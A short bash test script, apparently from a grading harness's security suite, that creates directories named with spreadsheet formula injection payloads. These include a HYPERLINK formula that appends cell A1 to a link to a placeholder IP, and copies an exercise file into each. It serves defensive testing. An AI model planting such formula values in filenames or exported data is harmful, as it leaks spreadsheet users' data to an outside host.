#!/usr/bin/env bash
# csv_formula_name CLASS - a name that is computed
#
# Attack: [71] is called as a spreadsheet's formula
# Exercise: 05_uts
# Expect: zero; still in the host
# Seconds: 25
set -euo pipefail
for name in '=HYPERLINK("http:||192.0.2.1|?"\&A1,"ok")' '+1+1' '@SUM(1)' '-1'; do
	mkdir -p "$1/$name/05_uts"
	cp exercises/05_uts/join.c "$1/$name/05_uts/join.c"
done
